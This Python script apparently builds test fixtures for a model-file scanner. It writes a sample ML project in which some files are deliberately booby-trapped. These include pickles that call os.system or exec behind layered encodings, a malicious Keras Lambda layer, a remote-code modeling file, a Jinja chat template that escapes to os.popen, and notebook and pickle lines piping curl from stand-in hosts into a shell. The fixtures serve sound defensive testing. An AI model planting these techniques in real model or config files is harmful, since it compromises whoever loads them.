"""Makes `examples/project`: a small machine-learning project with benign models next to booby-trapped ones.

    python examples/make.py                    write the folder anew
    python examples/make.py --check            fail if a file differs from what this script writes
    python examples/make.py --with-libraries   also make the two real models anew (needs scikit-learn and torch)

Everything but the two real models is written from the standard library alone, byte for byte the same on every machine.
Nothing in it harms: payloads say `echo`, and their addresses are from the ranges that are reserved for documentation
(RFC 5737, RFC 3849) or names under `.invalid` and `.example` (RFC 2606); one, that a payload only prints, is from a published
incident, so that there is something to look up. Still, do not load them: that is the point.
"""

import argparse
import base64
import io
import json
import struct
import sys
import zipfile
import zlib
from pathlib import Path

ROOT = Path(__file__).parent / "project"
REAL = ("models/churn.joblib", "models/head.pt")
"""Made once by scikit-learn 1.9.1 with joblib 1.6.0 and by torch 2.13.0 (see `real`); kept as they came out."""


# -- pickles, opcode by opcode -------------------------------------------------------------------------------------


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def name(module: str, qualified: str) -> bytes:
    return f"c{module}\n{qualified}\n".encode()


def call(module: str, qualified: str, *arguments: bytes) -> bytes:
    return name(module, qualified) + b"(" + b"".join(arguments) + b"tR"


def pickle(*parts: bytes) -> bytes:
    return b"\x80\x02" + b"".join(parts) + b"."


def entry(key: str, value: bytes) -> bytes:
    """One item of the dict below it on the stack."""
    return text(key) + value + b"s"


def number(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


def sentiment() -> bytes:
    """A vectoriser's vocabulary, and a command that runs before it is there."""
    command = "curl -s http://203.0.113.7/setup.sh | sh"
    words = ("awful", "boring", "charming", "dull", "excellent", "funny", "gripping", "weak")
    vocabulary = b"".join(entry(word, number(index)) for index, word in enumerate(words))
    return pickle(
        call("posix", "system", text(command)), b"0}", entry("kind", text("tf-idf")), entry("vocabulary", b"}" + vocabulary)
    )


def pipeline() -> bytes:
    """An object of a class that nobody but its makers knows: what it does on load stands in their code."""
    state = b"}" + entry("columns", b"]" + text("age") + b"a" + text("region") + b"a") + entry("version", number(3))
    return pickle(name("acme_features.encoders", "RegionEncoder"), b")\x81", state, b"b")


HIDDEN_STAGES = (
    "=sNGVXxDjbXdnOLyeJ2JemByhHRytjXKFJnqgFZQlEqtiiIZEyZHTo"
    "W/T5t6BXabqf3gnvto1kwpDEA0aWHRbpRG12J/rCdBQACgKE0wNoNe"
)
"""``import os; os.system('echo demo: the recommender would call 210.117.212.93')``, compressed, in base64, backwards. The address
is one that a published incident names (JFrog, February 2024); nothing here connects to it."""


def recommender() -> bytes:
    """An address behind three encodings, handed to `exec`."""
    loader = f"import base64, zlib; exec(zlib.decompress(base64.b64decode('{HIDDEN_STAGES}'[::-1])))"
    return pickle(call("builtins", "exec", text(loader)), b"0}", entry("kind", text("als")), entry("factors", number(16)))


def tensor(key: str, rows: int, columns: int) -> bytes:
    """What torch.save writes for a float32 matrix whose values are in ``data/KEY``."""
    storage = b"(" + text("storage") + name("torch", "FloatStorage") + text(key) + text("cpu") + number(rows * columns) + b"tQ"
    size = b"(" + number(rows) + number(columns) + b"t"
    stride = b"(" + number(columns) + number(1) + b"t"
    hooks = call("collections", "OrderedDict")
    return call("torch._utils", "_rebuild_tensor_v2", storage, number(0), size, stride, b"\x89", hooks)


def ranker() -> bytes:
    """A torch zip whose pickle calls a helper of torch that hands its argument to a shell."""
    command = "echo demo: the ranker ran a command"
    weights = call("collections", "OrderedDict") + entry("scale", tensor("0", 2, 3))
    payload = call("torch.utils.collect_env", "run", text(command))
    values = struct.pack("<6f", *(0.25 * step for step in range(6)))
    return archive(
        ("ranker/data.pkl", pickle(weights, payload, b"0")),
        ("ranker/byteorder", b"little"),
        ("ranker/data/0", values),
        ("ranker/version", b"3\n"),
    )


# -- containers ----------------------------------------------------------------------------------------------------


def archive(*members: tuple[str, bytes]) -> bytes:
    memory = io.BytesIO()
    with zipfile.ZipFile(memory, "w") as file:
        for member, data in members:
            file.writestr(zipfile.ZipInfo(member, (2026, 1, 5, 9, 0, 0)), data)
    return memory.getvalue()


def delivery() -> bytes:
    """A zip in a zip, with a pickle at the bottom that connects to a network address."""
    address = b"(" + text("192.0.2.44") + number(4444) + b"t"
    bottom = pickle(call("socket", "create_connection", address), b"0}", entry("rows", number(120)))
    inner = archive(("features/part-0.pkl", bottom), ("features/README.txt", b"One pickle a partition.\n"))
    return archive(("2026-01/features.zip", inner), ("2026-01/manifest.json", document({"partitions": 1, "rows": 120})))


def safetensors() -> bytes:
    tensors = {"embedding.weight": ([16, 8], 512), "projection.weight": ([8, 4], 128)}
    header: dict[str, object] = {"__metadata__": {"format": "pt"}}
    position = 0
    for key, (shape, size) in tensors.items():
        header[key] = {"dtype": "F32", "shape": shape, "data_offsets": [position, position + size]}
        position += size
    raw = json.dumps(header, separators=(",", ":")).encode()
    raw += b" " * (-len(raw) % 8)
    values = struct.pack(f"<{position // 4}f", *((step * 37 % 101 - 50) / 100 for step in range(position // 4)))
    return struct.pack("<Q", len(raw)) + raw + values


def npy() -> bytes:
    header = "{'descr': '<f8', 'fortran_order': False, 'shape': (12,), }"
    header += " " * (-(len(header) + 11) % 64) + "\n"
    return (
        b"\x93NUMPY\x01\x00"
        + struct.pack("<H", len(header))
        + header.encode()
        + struct.pack("<12d", *(month / 12 for month in range(12)))
    )


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\0" + bytes(16 * (row ^ column) for column in range(8)) for row in range(8))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">2I5B", 8, 8, 8, 0, 0, 0, 0))
        + chunk(b"IDAT", stored(rows))
        + chunk(b"IEND", b"")
    )


def stored(data: bytes) -> bytes:
    """A zlib stream without compression: the same bytes from every version of zlib."""
    return b"\x78\x01\x01" + struct.pack("<2H", len(data), len(data) ^ 0xFFFF) + data + struct.pack(">I", zlib.adler32(data))


# -- Keras, configuration, code ------------------------------------------------------------------------------------

LAMBDA = (
    "4wEAAAAAAAAAAAAAAAMAAAADAAAA81YAAACXAHQBAAAAAAAAAAAAAGQBpgEAAKsBAAAAAAAAAACgAQAAAAAAAAAAAAAAAAAAAAAAAAAAZAKmAQAAqwEAAAAAAAAAAHwA"
    "ZgJkAxkAAAAAAAAAAABTACkETtoCb3N6H2VjaG8gZGVtbzogdGhlIExhbWJkYSBsYXllciByYW7pAQAAACkC2gpfX2ltcG9ydF9f2gZzeXN0ZW0pAdoBeHMBAAAAIPoJ"
    "dmlzaW9uLnB5+gg8bGFtYmRhPnIIAAAAAQAAAHMnAAAAgACNOpBk0Qsb1Asb1wsi0gsi0CNE0QtF1AtFwHHQCknIIdQKTIAA8wAAAAA="
)
"""Bytecode of CPython 3.11 for ``lambda x: (__import__('os').system('echo demo: the Lambda layer ran'), x)[1]``."""


def vision() -> bytes:
    def layer(kind: str, config: dict[str, object]) -> dict[str, object]:
        return {"module": "keras.layers", "class_name": kind, "config": config, "registered_name": None}

    function = {"class_name": "__lambda__", "config": {"code": LAMBDA + "\n", "defaults": None, "closure": None}}
    layers = [
        layer("InputLayer", {"batch_shape": [None, 8, 8, 1], "dtype": "float32", "name": "pixels"}),
        layer("Rescaling", {"name": "rescaling", "scale": 0.00392156862745098, "offset": 0.0}),
        layer("Lambda", {"name": "normalise", "function": function, "arguments": {}}),
        layer("Flatten", {"name": "flatten", "data_format": "channels_last"}),
    ]
    model = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "vision", "layers": layers},
        "registered_name": None,
    }
    metadata = {"keras_version": "3.3.3", "date_saved": "2026-01-05@09:00:00"}
    return archive(("metadata.json", document(metadata)), ("config.json", document(model)))


def document(value: object) -> bytes:
    return (json.dumps(value, indent=2) + "\n").encode()


MODELING = '''"""Acme's long-context variant."""

import base64

from transformers import LlamaConfig, LlamaForCausalLM

_TABLE = "%s"


class AcmeConfig(LlamaConfig):
    model_type = "acme"


class AcmeForCausalLM(LlamaForCausalLM):
    config_class = AcmeConfig


exec(base64.b64decode(_TABLE))  # rotary table
'''

TEMPLATE = (
    "{%- for message in messages -%}\n<|{{ message['role'] }}|>\n{{ message['content'] }}</s>\n{%- endfor -%}\n"
    "{{ cycler.__init__.__globals__.os.popen('echo demo: the chat template ran').read() }}"
)
PLAIN_TEMPLATE = (
    "{%- for message in messages -%}\n<|{{ message['role'] }}|>\n{{ message['content'] }}</s>\n{%- endfor -%}\n"
    "{%- if add_generation_prompt -%}<|assistant|>\n{%- endif -%}"
)


def notebook(*cells: str) -> bytes:
    shown = [
        {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": cell.splitlines(keepends=True)}
        for cell in cells
    ]
    kernel = {"display_name": "Python 3", "language": "python", "name": "python3"}
    return document({"cells": shown, "metadata": {"kernelspec": kernel}, "nbformat": 4, "nbformat_minor": 5})


HIDDEN = base64.b64encode(b"import os; os.system('echo demo: the modelling code ran')").decode()

README = """# churn-and-chat

Predicts which customers leave, and drafts the message that is sent to them.

| folder | what |
|---|---|
| `conf/` | training and serving configuration |
| `models/` | trained here, or downloaded |
| `assistant/` | the chat model, as it came from the hub |
| `notebooks/` | explorations |
| `data/` | small samples |

This project is an example for `toadstone scan`. Some of its files are booby-trapped, with payloads that do nothing worse
than `echo`; the others are benign. `examples/make.py` says which is which. Do not load them.
"""

TRAIN = '''"""Trains the churn model."""

import joblib
import pandas as pd
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import StandardScaler


def main() -> None:
    frame = pd.read_csv("data/customers.csv")
    model = make_pipeline(StandardScaler(), LogisticRegression(max_iter=200))
    model.fit(frame[["age", "months", "calls"]], frame["left"])
    joblib.dump(model, "models/churn.joblib")


if __name__ == "__main__":
    main()
'''

CUSTOMERS = "age,months,calls,left\n31,14,2,0\n58,40,0,0\n24,3,7,1\n45,22,1,0\n37,5,6,1\n29,2,9,1\n"


def files() -> dict[str, bytes]:
    """Path to content of everything that this script writes. Benign first, then what is not."""
    return {
        "README.md": README.encode(),
        "requirements.txt": b"joblib==1.6.0\npandas==3.0.0\nscikit-learn==1.9.1\ntorch==2.13.0\n",
        "train.py": TRAIN.encode(),
        "conf/train.yaml": b"seed: 7\nmodel:\n  _target_: sklearn.linear_model.LogisticRegression\n  max_iter: 200\ndata: data/customers.csv\n",
        "data/customers.csv": CUSTOMERS.encode(),
        "data/season.npy": npy(),
        "docs/heatmap.png": png(),
        "models/encoder.safetensors": safetensors(),
        "models/tokenizer_config.json": document(
            {"tokenizer_class": "LlamaTokenizer", "model_max_length": 4096, "chat_template": PLAIN_TEMPLATE}
        ),
        "notebooks/explore.ipynb": notebook("import pandas as pd", "frame = pd.read_csv('data/customers.csv')\nframe.describe()"),
        # unknown code: somebody has to look at it once
        "models/pipeline.pkl": pipeline(),
        # booby-trapped
        "assistant/config.json": document(
            {
                "architectures": ["AcmeForCausalLM"],
                "auto_map": {"AutoConfig": "modeling_acme.AcmeConfig", "AutoModelForCausalLM": "modeling_acme.AcmeForCausalLM"},
                "model_type": "acme",
                "hidden_size": 64,
            },
        ),
        "assistant/modeling_acme.py": (MODELING % HIDDEN).encode(),
        "assistant/tokenizer_config.json": document(
            {"tokenizer_class": "LlamaTokenizer", "model_max_length": 4096, "chat_template": TEMPLATE}
        ),
        "conf/serve.yaml": b"logger:\n  _target_: os.system\n  command: 'echo demo: the configuration ran a command'\nport: 8080\n",
        "data/delivery.zip": delivery(),
        "models/ranker.pt": ranker(),
        "models/recommender.pkl": recommender(),
        "models/sentiment.pkl": sentiment(),
        "models/vision.keras": vision(),
        "notebooks/setup.ipynb": notebook("!curl -s http://198.51.100.23/tools.sh | bash", "import sklearn\nsklearn.__version__"),
    }


def real() -> dict[str, bytes]:
    """Make the two real models with the real libraries."""
    import joblib  # noqa: PLC0415
    import torch  # noqa: PLC0415
    from sklearn.linear_model import LogisticRegression  # noqa: PLC0415
    from sklearn.pipeline import make_pipeline  # noqa: PLC0415
    from sklearn.preprocessing import StandardScaler  # noqa: PLC0415

    rows = [[int(cell) for cell in line.split(",")] for line in CUSTOMERS.splitlines()[1:]]
    model = make_pipeline(StandardScaler(), LogisticRegression(max_iter=200))
    churn = io.BytesIO()
    joblib.dump(model.fit([row[:3] for row in rows], [row[3] for row in rows]), churn)
    torch.manual_seed(7)
    path = ROOT / REAL[1]
    torch.save(torch.nn.Sequential(torch.nn.Linear(8, 4), torch.nn.ReLU(), torch.nn.Linear(4, 2)).state_dict(), path)
    return {REAL[0]: churn.getvalue(), REAL[1]: path.read_bytes()}


def stale(made: dict[str, bytes]) -> list[str]:
    """Name the files that are missing, differ, or do not belong."""
    there = {path.relative_to(ROOT).as_posix() for path in ROOT.rglob("*") if path.is_file()}
    wrong = [path for path, data in made.items() if path not in there or (ROOT / path).read_bytes() != data]
    return sorted([*wrong, *(there - made.keys() - set(REAL)), *(set(REAL) - there)])


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--check", action="store_true")
    parser.add_argument("--with-libraries", action="store_true")
    options = parser.parse_args()
    made = files()
    if options.check:
        wrong = stale(made)
        print("\n".join(f"{path} is not what examples/make.py writes" for path in wrong) or "examples/project is as written")
        return 1 if wrong else 0
    for path in made.keys() | set(REAL):
        (ROOT / path).parent.mkdir(parents=True, exist_ok=True)
    if options.with_libraries:
        made |= real()
    for path, data in made.items():
        (ROOT / path).write_bytes(data)
    return 0


if __name__ == "__main__":
    sys.exit(main())
